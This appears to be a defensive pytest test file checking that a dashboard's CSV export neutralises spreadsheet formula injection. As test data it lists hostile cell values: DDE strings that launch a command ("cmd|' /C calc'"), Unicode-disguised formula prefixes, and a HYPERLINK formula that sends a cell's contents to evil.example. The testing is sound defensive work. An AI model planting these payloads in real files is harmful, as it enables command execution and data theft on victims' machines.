"""What leaves the house: no cell is a formula, and an export that names nobody."""

from __future__ import annotations

import csv
import io
import unicodedata
from datetime import date

import pytest
from hypothesis import given
from hypothesis import strategies as st

from dashboard.cohort import Reply, as_csv
from dashboard.exports.cells import line, neutral, table
from tests.test_layers import files_in, imports_of

FORMULAS = [
    "=1+1",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1",
    "\r=1",
    "\n=1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(A1)",
    "﹦1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    '"=1+1"',
    "water;=1+1",
    "water\n=1+1",
    "water\t@SUM(A1)",
    '=HYPERLINK("http://evil.example/?x="&A1,"look")',
    "=1+1;=2+2",
    "−1+1",
]
"""What people have hidden in cells."""

NUMBERS = ["-5", "+3.2", "-1,234.5", "1e-5", "-2E10", "0", "12", "−3.2"]


def begins_a_formula(cell: str) -> bool:
    """The judge, in its own words: the first sign that can be seen, as every program folds it."""
    try:
        float(cell.strip().replace(",", "").replace("−", "-"))
        return False
    except ValueError:
        pass
    seen = cell.lstrip("".join(sign for sign in cell if sign.isspace() or unicodedata.category(sign) in ("Cc", "Cf")))
    return cell[:1] in ("\t", "\r", "\n") or unicodedata.normalize("NFKC", seen[:1])[:1] in tuple("=+-@−")


@pytest.mark.parametrize("words", FORMULAS)
@pytest.mark.parametrize("separator", [",", ";", "\t", "|"])
def test_no_formula_reaches_a_cell(words: str, separator: str):
    """Whatever the spreadsheet was told to split at."""
    for row in csv.reader(io.StringIO(line(["first", words, 4])), delimiter=separator):
        assert [cell for cell in row if begins_a_formula(cell)] == []


@pytest.mark.parametrize("number", NUMBERS)
def test_a_real_number_stays_a_number(number: str):
    """A loss of five points is -5 in the file too."""
    assert next(csv.reader([line([number])])) == [number]


hostile_text = st.text(
    st.one_of(st.sampled_from("=+-@;,\t\r\n|'\" ＝＋－＠﹦−\u200b\u00a0 1a("), st.characters(codec="utf-8")),
    max_size=12,
)


@given(st.lists(hostile_text, min_size=1, max_size=4), st.sampled_from(",;\t|"))
def test_no_text_at_all_becomes_a_formula(cells: list[str], separator: str):
    """Also none that nobody thought of."""
    for row in csv.reader(io.StringIO(line(cells)), delimiter=separator):
        for cell in row:
            assert not begins_a_formula(cell), (cells, cell)


@given(st.lists(st.text(st.characters(codec="utf-8", exclude_characters="\r"), max_size=12), min_size=1))
def test_words_lose_nothing(cells: list[str]):
    """Taking the guards away gives what was written, cell by cell."""
    read = next(csv.reader(io.StringIO(line(cells), newline="")))
    assert [cell.replace("'", "") for cell in read] == [cell.replace("'", "") for cell in cells]


def test_what_needs_no_guard_has_none():
    """Plain words, codes and numbers are untouched."""
    for words in ("North Harbor", "self_care", "0-10", "12 of 40", "30–44", "", "it's -3 here", "a = b"):
        assert neutral(words) == words


def test_the_lines_before_a_table_are_guarded_too():
    """A site whose name is a formula comes out as words in the selection, the definition and the heads."""
    evil = "=cmd|' /C calc'!A0"
    reply = Reply("q", evil, evil, evil, evil, evil, (evil, "-1+1"), ((evil, 4.0),), None)
    rows = list(csv.reader(io.StringIO(as_csv(reply, evil, date(2026, 3, 1)))))
    assert len(rows) == 8
    assert [cell for row in rows for cell in row if begins_a_formula(cell)] == []


def test_a_table_is_its_lines():
    """One after another, None being an empty cell."""
    assert table([("a", None), (1, "=2")]) == "a,\n1,'=2\n"


def test_there_is_one_writer_of_tables():
    """Nothing else that ships writes them, so nothing can forget the guard."""
    shipped = files_in("dashboard", "pages", "db")
    writers = [file.name for file in shipped if "csv" in imports_of(file) or ".to_csv" in file.read_text("utf-8")]
    assert writers == ["cells.py"]
